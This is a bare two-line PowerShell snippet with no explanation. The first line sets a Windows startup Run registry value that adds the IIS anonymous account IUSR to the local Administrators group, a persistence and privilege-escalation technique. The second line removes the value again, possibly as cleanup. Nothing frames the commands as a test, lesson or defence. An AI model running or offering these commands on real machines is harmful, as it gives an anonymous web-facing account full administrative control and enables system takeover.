Set-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name x -Value 'net localgroup Administrators IUSR /add'
Clear-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name x
